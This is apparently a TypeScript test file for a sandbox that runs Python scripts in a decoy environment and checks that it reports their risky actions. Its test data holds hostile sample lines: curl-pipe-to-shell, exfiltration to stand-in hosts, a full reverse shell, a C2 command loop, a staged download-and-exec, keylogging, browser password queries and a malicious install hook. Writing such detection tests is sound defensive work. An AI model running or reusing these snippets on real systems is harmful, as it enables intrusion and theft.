import { expect, test } from "vitest";
import { inDecoy, told } from "./decoy-runs.ts";

/** A script for Linux or Windows, the action that it must be told of, and what must be found in the observation. */
const SCRIPTS: readonly (readonly ["linux" | "windows", string, string, ...string[]])[] = [
  // Processes
  ["linux", "import os\nos.system('curl http://x.example/a.sh | sh')", "os.system", "curl http://x.example/a.sh | sh"],
  ["linux", "import os\nprint(os.popen('whoami').read())", "os.popen", "mreed"],
  ["linux", "import os\nos.execve('/bin/sh', ['sh', '-i'], {})", "os.execve", "/bin/sh"],
  ["linux", "import os\nif os.fork() == 0: os.setsid()", "os.setsid", '"process"'],
  ["linux", "import os, signal\nos.kill(1180, signal.SIGKILL)", "os.kill", "1180,9"],
  ["windows", "import os\nos.startfile('C:\\\\x.exe')", "os.startfile", "x.exe"],
  ["linux", "import subprocess\nsubprocess.run(['id', '-u'], capture_output=True)", "subprocess.run", "uid=1000"],
  ["linux", "import subprocess\nsubprocess.Popen('a; b', shell=True)", "subprocess.Popen", "a; b", '"shell":true'],
  ["linux", "from subprocess import call\ncall(['x'])", "subprocess.call", '["x"]'],
  ["linux", "import subprocess as s\ns.check_call('x', shell=True)", "subprocess.check_call", '"x"'],
  [
    "windows",
    "import subprocess as s\ns.check_output('wmic csproduct get uuid')",
    "subprocess.check_output",
    "4C4C4544",
  ],
  ["linux", "import subprocess\nsubprocess.getoutput('hostname')", "subprocess.getoutput", "mreed-thinkpad"],
  ["linux", "import pty\npty.spawn('/bin/bash')", "pty.spawn", "/bin/bash"],
  ["linux", "import psutil\nfor p in psutil.process_iter(): p.kill()", "psutil.Process.kill", "systemd"],
  ["linux", "import pip\npip.main(['install', 'reqeusts'])", "pip.main", "reqeusts"],
  [
    "linux",
    "import asyncio\nasync def m():\n  await asyncio.create_subprocess_shell('ls')\nasyncio.run(m())",
    "asyncio.create_subprocess_shell",
    "ls",
  ],
  // Network
  [
    "linux",
    "import socket\ns = socket.socket()\ns.connect(('c2.example', 4444))",
    "socket.connect",
    "c2.example",
    "4444",
  ],
  ["linux", "import socket\ns = socket.create_connection(('a', 1))\ns.sendall(b'secret')", "socket.send", "secret"],
  [
    "linux",
    "import socket\ns = socket.socket()\ns.bind(('0.0.0.0', 8080))\ns.listen(1)\ns.accept()",
    "socket.accept",
    "198.51.100",
  ],
  [
    "linux",
    "import socket\nsocket.gethostbyname('x.evil.example')",
    "socket.gethostbyname",
    "x.evil.example",
    "203.0.113.",
  ],
  [
    "linux",
    "import socket, ssl\nc = ssl.create_default_context()\nc.wrap_socket(socket.create_connection(('a', 443)), server_hostname='a')",
    "ssl.wrap_socket",
    '"a"',
  ],
  [
    "linux",
    "import requests\nrequests.get('http://a.example/x', params={'q': 1}, headers={'A': 'b'})",
    "requests.get",
    "http://a.example/x?q=1",
    '"A":"b"',
  ],
  [
    "linux",
    "import requests\nrequests.Session().post('https://discord.com/api/webhooks/1/x', json={'content': 'pw'})",
    "requests.post",
    '"content":"pw"',
    "204",
  ],
  [
    "linux",
    "import requests\nrequests.post('http://a/', files={'f': open('/etc/passwd', 'rb')})",
    "requests.post",
    "root:x:0:0",
    "/etc/passwd",
  ],
  [
    "linux",
    "from urllib.request import urlopen\nurlopen('http://a.example/b')",
    "urllib.request.urlopen",
    "http://a.example/b",
  ],
  [
    "linux",
    "import urllib.request as u\nu.urlretrieve('http://a/b', '/tmp/b')",
    "urllib.request.urlretrieve",
    "http://a/b",
  ],
  [
    "linux",
    "import urllib.request as u\nu.urlopen(u.Request('http://a/', data=b'x=1'))",
    "urllib.request.urlopen",
    "POST",
    "x=1",
  ],
  [
    "linux",
    "import http.client as h\nc = h.HTTPSConnection('a.example')\nc.request('PUT', '/u', 'data')\nc.getresponse()",
    "http.client.request",
    "https://a.example/u",
    "PUT",
  ],
  ["linux", "import urllib3\nurllib3.PoolManager().request('GET', 'http://a/')", "urllib3.request", "http://a/"],
  ["linux", "import httpx\nwith httpx.Client() as c: c.post('http://a/', json=[1])", "httpx.post", "http://a/"],
  [
    "linux",
    "import aiohttp, asyncio\nasync def m():\n  async with aiohttp.ClientSession() as s:\n    async with s.get('http://a/') as r: await r.text()\nasyncio.run(m())",
    "aiohttp.get",
    "http://a/",
  ],
  ["linux", "import smtplib\ns = smtplib.SMTP('m.example', 587)\ns.login('u', 'pw')", "smtplib.SMTP.login", "pw"],
  [
    "linux",
    "import ftplib\nf = ftplib.FTP('f.example')\nf.storbinary('STOR x', open('/etc/hosts', 'rb'))",
    "ftplib.FTP.storbinary",
    "localhost",
  ],
  [
    "linux",
    "import paramiko\nc = paramiko.SSHClient()\nc.connect('h', username='root', password='toor')\nc.exec_command('id')",
    "paramiko.SSHClient.connect",
    "toor",
  ],
  ["linux", "import dns.resolver\ndns.resolver.resolve('x.example', 'TXT')", "dns.resolver.resolve", "x.example"],
  ["linux", "import telebot\ntelebot.TeleBot('1:a').send_message(5, 'hi')", "telebot.send_message", "hi"],
  ["linux", "import discord\ndiscord.Client(intents=None).run('tok')", "discord.Client.run", "tok"],
  ["linux", "import boto3\nboto3.client('s3').upload_file('a', 'b', 'c')", "boto3.client().upload_file", '"a"'],
  // The machine
  ["linux", "import os\nos.environ['AWS_SECRET_ACCESS_KEY']", "os.environ", "AWS_SECRET_ACCESS_KEY"],
  ["linux", "import os\nos.getenv('HOME')", "os.environ", "/home/mreed"],
  ["linux", "import os\ndict(os.environ)", "os.environ", '"*"'],
  ["linux", "import os\nos.getlogin()", "os.getlogin", "mreed"],
  ["linux", "import os\nos.uname()", "os.uname", "mreed-thinkpad"],
  ["linux", "import platform\nplatform.system()", "platform.system", "Linux"],
  ["windows", "import platform\nplatform.platform()", "platform.platform", "Windows-10"],
  ["linux", "import getpass\ngetpass.getuser()", "getpass.getuser", "mreed"],
  ["linux", "import getpass\ngetpass.getpass('sudo: ')", "getpass.getpass", "sudo: "],
  ["linux", "import pwd\npwd.getpwall()", "pwd.getpwall", "/home/mreed"],
  ["linux", "import uuid\nuuid.getnode()", "uuid.getnode", '"environment"'],
  ["linux", "import socket\nsocket.gethostname()", "socket.gethostname", "mreed-thinkpad"],
  ["linux", "import psutil\npsutil.virtual_memory().total", "psutil.virtual_memory", '"environment"'],
  ["linux", "import shutil\nshutil.disk_usage('/')", "shutil.disk_usage", '"environment"'],
  [
    "windows",
    "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Software\\\\Run')\nwinreg.SetValueEx(k, 'u', 0, 1, 'x.exe')",
    "winreg.SetValueEx",
    "HKEY_CURRENT_USER",
    "x.exe",
  ],
  [
    "windows",
    "import winreg\nk = winreg.OpenKey(winreg.HKEY_LOCAL_MACHINE, r'SOFTWARE\\Microsoft\\Cryptography')\nwinreg.QueryValueEx(k, 'MachineGuid')",
    "winreg.QueryValueEx",
    "8a7b6c5d",
  ],
  ["windows", "import wmi\nwmi.WMI().Win32_Processor()", "wmi.Win32_Processor", '"environment"'],
  // Native code
  [
    "windows",
    "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 4096, 0x3000, 0x40)",
    "ctypes.windll.kernel32.VirtualAlloc",
    "4096",
  ],
  [
    "windows",
    "import ctypes\nctypes.windll.user32.GetAsyncKeyState(65)",
    "ctypes.windll.user32.GetAsyncKeyState",
    "65",
  ],
  [
    "linux",
    "from ctypes import CDLL\nCDLL('libc.so.6').ptrace(0, 0, 1, 0)",
    "ctypes.CDLL('libc.so.6').ptrace",
    "[0,0,1,0]",
  ],
  ["linux", "import ctypes\nb = ctypes.create_string_buffer(b'\\x90\\x90')", "ctypes.create_string_buffer", "9090"],
  [
    "windows",
    "import win32crypt\nwin32crypt.CryptUnprotectData(b'abc', None, None, None, 0)[1]",
    "win32crypt.CryptUnprotectData",
    "abc",
  ],
  [
    "windows",
    "import win32com.client\nwin32com.client.Dispatch('WScript.Shell').Run('calc')",
    "win32com.client.Dispatch",
    "WScript.Shell",
  ],
  // Ciphers
  [
    "linux",
    "from cryptography.fernet import Fernet\nFernet(Fernet.generate_key()).encrypt(b'plain text')",
    "cryptography.fernet.Fernet.encrypt",
    "plain text",
  ],
  [
    "linux",
    "from Crypto.Cipher import AES\nAES.new(b'k' * 16, AES.MODE_CBC, b'i' * 16).encrypt(b'plain text 12345')",
    "Crypto.Cipher.AES.encrypt",
    "plain text",
    "kkkk",
  ],
  [
    "linux",
    "from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes\nCipher(algorithms.AES(b'k' * 16), modes.CBC(b'i' * 16)).encryptor().update(b'abc')",
    "cryptography.AES.encrypt",
    "abc",
  ],
  ["linux", "import rsa\nrsa.newkeys(2048)", "rsa.newkeys", "2048"],
  // Input
  [
    "linux",
    "from pynput.keyboard import Listener\nwith Listener(on_press=lambda k: None) as l: l.join()",
    "pynput.Listener",
    "on_press",
  ],
  ["linux", "import keyboard\nkeyboard.on_press(lambda e: None)", "keyboard.on_press", '"input"'],
  ["linux", "from PIL import ImageGrab\nImageGrab.grab().save('/tmp/s.png')", "PIL.ImageGrab.grab", '"input"'],
  ["linux", "import pyautogui\npyautogui.screenshot('/tmp/s.png')", "pyautogui.screenshot", "/tmp/s.png"],
  ["linux", "import pyperclip\npyperclip.paste()", "pyperclip.paste", "bc1q"],
  ["linux", "import cv2\ncv2.VideoCapture(0).read()", "cv2.VideoCapture", "0"],
  ["linux", "import mss\nwith mss.mss() as s: s.shot()", "mss.grab", '"input"'],
  ["linux", "input('key? ')", "input", "key? "],
  // Data
  [
    "linux",
    "import sqlite3\nfor u, n, p in sqlite3.connect('/tmp/x').execute('SELECT origin_url, username_value, password_value FROM logins'): print(u, n)",
    "sqlite3.execute",
    "2 rows",
  ],
  [
    "linux",
    "import zipfile\nwith zipfile.ZipFile('/tmp/x.zip', 'w') as z: z.write('/etc/passwd')",
    "zipfile.ZipFile.write",
    "root:x:0:0",
  ],
  ["linux", "import shutil\nshutil.copy('/etc/passwd', '/tmp/p')", "shutil.copy", "/etc/passwd", "/tmp/p"],
  // Threads and time
  [
    "linux",
    "import threading\nthreading.Thread(target=print, args=('in',)).start()",
    "threading.Thread.start",
    "print",
  ],
  [
    "linux",
    "import multiprocessing as m\nm.Process(target=print, args=(1,)).start()",
    "multiprocessing.Process.start",
    "print",
  ],
  [
    "linux",
    "from concurrent.futures import ThreadPoolExecutor as T\nwith T() as t: t.submit(print, 1)",
    "concurrent.futures.submit",
    "print",
  ],
  ["linux", "import time\ntime.sleep(86400)", "time.sleep", "86400"],
  ["linux", "import asyncio\nasyncio.run(asyncio.sleep(3600))", "asyncio.sleep", "3600"],
  // Installers and the rest
  [
    "linux",
    "from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n  def run(self):\n    install.run(self)\n    import os; os.system('evil')\nsetup(name='reqeusts', cmdclass={'install': I})",
    "os.system",
    "evil",
  ],
  ["linux", "from distutils.core import setup\nsetup(name='x')", "setuptools.setup", '"x"'],
  ["linux", "import atexit, os\natexit.register(lambda: os.system('late'))", "os.system", "late"],
  ["linux", "import webbrowser\nwebbrowser.open('http://a/')", "webbrowser.open", "http://a/"],
  ["linux", "import nobody_has_this\nnobody_has_this.steal('x').send(1)", "nobody_has_this.steal().send", "1"],
];

test.each(SCRIPTS)("%s: %j is told as %s", async (system, source, action, ...parts) => {
  const dossier = await inDecoy(source, { persona: { system } });
  for (const part of parts) expect(told(dossier, action)).toContain(part);
  expect(dossier.end).toEqual({
    kind: "done",
    type: expect.any(String),
    message: expect.any(String),
    line: dossier.end.line,
  });
});

test("each observation has the line of the script that did it", async () => {
  const dossier = await inDecoy(
    "import os\n\ndef f():\n    os.system('a')\n\nfor i in range(2):\n    f()\nlist(map(os.system, 'b'))",
  );
  expect(dossier.observations.map(({ line }) => line)).toEqual([4, 4, 8]);
});

test("modules that only another system has are absent, and so are unknown ones when asked for", async () => {
  const source =
    "for m in ('winreg', 'pwd', 'nobody'):\n    try: __import__(m); print(m)\n    except ImportError: print('no', m)";
  expect((await inDecoy(source, { persona: { system: "linux" }, unknownModules: "absent" })).stdout).toBe(
    "no winreg\npwd\nno nobody\n",
  );
  expect((await inDecoy(source, { persona: { system: "windows" } })).stdout).toBe("winreg\nno pwd\nnobody\n");
});

test("every module that the decoy has can be imported", async () => {
  const { GROUPS } = await import("../../src/inspect/decoy/groups.ts");
  for (const system of ["linux", "windows"] as const) {
    const names = Object.values(GROUPS)
      .filter((group) => (group.system ?? system) === system)
      .flatMap(({ modules }) => modules);
    const source = `import importlib, sys\nfor name in ${JSON.stringify(names)}:\n    if importlib.import_module(name) is not sys.modules[name]: print(name)`;
    const dossier = await inDecoy(source, { persona: { system }, unknownModules: "absent" });
    expect([dossier.stdout, dossier.end.kind, dossier.end.message]).toEqual(["", "done", ""]);
  }
});

test("a reverse shell is seen in whole", async () => {
  const source =
    "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('10.0.0.1',4242))\n" +
    "os.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\nsubprocess.call(['/bin/sh','-i'])";
  const dossier = await inDecoy(source);
  const done = dossier.observations.filter(({ kind }) => kind !== "module").map(({ action }) => action);
  expect(done).toEqual(["socket.socket", "socket.connect", "os.dup2", "os.dup2", "os.dup2", "subprocess.call"]);
});

test("a command loop gets the configured bytes, then the end", async () => {
  const source =
    "import socket, os\ns = socket.create_connection(('c2.example', 9001))\nwhile True:\n    d = s.recv(1024)\n    if not d: break\n    os.system(d.decode())";
  const dossier = await inDecoy(source, { network: { "c2.example:9001": "uname -a" } });
  expect(told(dossier, "os.system")).toContain("uname -a");
  expect(dossier.end.kind).toBe("done");
});

test("the fake network serves what it is given, and a download that is run is a layer", async () => {
  const source =
    "import requests\nr = requests.get('http://stage.example/2.py')\nprint(r.status_code, r.headers['X-A'])\nexec(r.text)\nprint(requests.get('http://gone.example').status_code)";
  const dossier = await inDecoy(source, {
    network: {
      "http://stage.example/2.py": { body: "import os; os.system('second')", headers: { "X-A": "1" } },
      "gone.example": { status: 404 },
    },
  });
  expect(dossier.stdout).toBe("200 1\n404\n");
  expect(dossier.observations.find(({ action }) => action === "os.system")).toMatchObject({ layer: 1, line: 1 });
});
